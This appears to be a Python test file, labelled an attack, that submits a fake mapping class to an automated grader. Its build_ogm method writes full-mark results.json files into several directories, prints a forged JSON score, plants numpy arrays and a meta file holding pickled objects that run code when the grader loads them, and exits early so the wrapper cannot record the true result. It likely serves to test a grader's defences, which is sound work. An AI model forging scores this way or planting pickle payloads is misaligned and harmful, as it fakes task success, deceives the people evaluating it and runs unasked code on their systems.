"""Attack: forge the results: a results.json with full marks, pickled arrays where the grader
reads the map, and a fake JSON score on stdout; then exit before the wrapper writes."""
import json
import os
import pickle

import numpy as np

import mapping_core


class Evil:
    def __reduce__(self):
        return (print, ("PICKLE EXECUTED IN THE GRADER",))


class ogm_S_CSM(mapping_core.TemplateMap):
    semantic = True

    def build_ogm(self):
        for name in ("results.json", "out/results.json", "../results.json"):
            try:
                with open(name, "w") as f:
                    json.dump({"score": 1000, "tests": []}, f)
            except OSError:
                pass
        print(json.dumps({"score": 1000}))
        for name in ("mean", "variance"):
            np.save(f"out/{name}.npy", np.array([Evil()], dtype=object), allow_pickle=True)
        with open("out/meta.json", "w") as f:
            f.write(pickle.dumps(Evil()).hex())
        os._exit(0)
